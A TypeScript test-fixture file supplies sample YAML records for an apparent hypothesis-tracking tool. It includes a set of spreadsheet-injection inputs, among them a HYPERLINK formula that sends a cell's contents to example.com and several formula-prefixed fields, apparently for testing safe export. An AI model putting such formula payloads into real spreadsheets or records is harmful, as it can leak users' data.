// Small valid records to build test repositories from.

export const HYPOTHESIS = `kind: hypothesis
title: Riders want real-time departures
statement: We believe that riders check departures on the go, because buses are often late
status: open
`;

/** A config that turns the quality group off, for tests of other rules on records as small as `statement: s`. */
export const QUALITY_OFF = 'quality:\n  level: off\n';

/** A measurable success criterion, for a hypothesis being tested. */
export const SUCCESS = 'success: At least 6 of 10 panel members check departures on the go\n';

export const EXPERIMENT = `kind: experiment
title: Panel on departures
tests: [riders-want-realtime]
method: panel
status: planned
`;

export const INSIGHT = `kind: insight
title: Riders plan at home
learned: Most riders plan the trip before they leave home
`;

/** A repository with one valid record of each kind, linked. */
export const VALID_FILES: Record<string, string> = {
  // With a success criterion: the planned experiment tests it (else `success-missing`).
  'learning/hypotheses/riders-want-realtime.yaml': `${HYPOTHESIS}${SUCCESS}`,
  'learning/experiments/departures-panel.yaml': EXPERIMENT,
  'learning/insights/riders-plan-at-home.yaml': `${INSIGHT}hypotheses: [riders-want-realtime]\n`,
};

/**
 * Hypotheses whose text a spreadsheet would evaluate as formulas (a link that sends the sheet
 * elsewhere, sums, a command) or turn into other values (leading zeros, a fraction read as a date).
 */
export const SPREADSHEET_HAZARDS: Record<string, string> = {
  'learning/hypotheses/formler-i-texten.yaml': `kind: hypothesis
title: '=HYPERLINK("https://example.com/?d="&B2,"Öppna")'
statement: "=1+1"
status: open
segment: "+cmd"
journey: "-köpa"
metric: "@SUM(A1)"
success: "\\t=2+2 är fyra"
owner: "@elin"
tags: ["-a", "=b", "@c"]
x-note: "'=redan citerad"
`,
  'learning/hypotheses/nollor-och-brak.yaml': `kind: hypothesis
title: Nollor och bråk
statement: Vi tror att åtta av tio resenärer skriver 0012 och 1/2 så
status: open
segment: "0012"
journey: 1/2
tags: ["'til", "ö"]
`,
};
